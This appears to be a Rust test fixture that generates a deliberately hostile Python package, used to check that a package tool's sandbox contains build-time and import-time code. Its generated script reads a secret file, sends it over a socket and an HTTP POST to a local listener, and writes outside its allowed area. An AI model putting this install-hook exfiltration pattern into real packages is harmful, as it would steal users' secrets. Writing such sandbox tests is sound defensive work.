//! Packages that mean harm: what they try, at build time and when they are imported.

use super::package::{Package, Release};
use std::fmt::Write as _;
use std::path::PathBuf;

/// What a hostile package goes for. The test makes all three and looks at them afterwards.
#[derive(Debug, Clone)]
pub struct Targets {
    /// A file that it reads and tries to send away.
    pub secret: PathBuf,
    /// Where somebody listens: `127.0.0.1:PORT`. A connection is harm, whatever it carries.
    pub listener: String,
    /// A file that it tries to make, outside of all that it was given.
    pub outside: PathBuf,
}

/// A package whose import and whose builder try everything in `targets`. It never fails: an attempt that did not succeed
/// is swallowed, as real ones do. What did succeed is printed as a line `hostile: read | reached | wrote`.
///
/// It has a wheel and a source distribution; call [`Release::only_source`] on its release to force a build.
pub fn hostile(name: &str, targets: &Targets) -> Package {
    let attempt = attempt(targets);
    let module = format!("{}.py", name.replace('-', "_"));
    let release = Release::new("1.0").module(&module, &attempt).also_source().on_build(&attempt);
    Package::new(name).with(release)
}

fn attempt(targets: &Targets) -> String {
    let Targets { secret, listener, outside } = targets;
    let (host, port) = listener.rsplit_once(':').unwrap_or((listener, "80"));
    let mut text = String::from("import socket, urllib.request\nkept = b'nothing'\n");
    let mut step = |lines: &[String]| {
        text += "try:\n";
        for line in lines {
            let _ = writeln!(text, "    {line}");
        }
        text += "except Exception:\n    pass\n";
    };
    step(&[
        format!("kept = open({:?}, 'rb').read()", secret.display().to_string()),
        "print('hostile: read')".to_owned(),
    ]);
    step(&[
        format!("line = socket.create_connection(({host:?}, {port}), timeout=0.5)"),
        "line.sendall(kept)".to_owned(),
        "print('hostile: reached')".to_owned(),
    ]);
    step(&[
        format!("urllib.request.urlopen('http://{listener}/', data=kept, timeout=0.5)"),
        "print('hostile: reached')".to_owned(),
    ]);
    step(&[
        format!("open({:?}, 'wb').write(kept)", outside.display().to_string()),
        "print('hostile: wrote')".to_owned(),
    ]);
    text
}
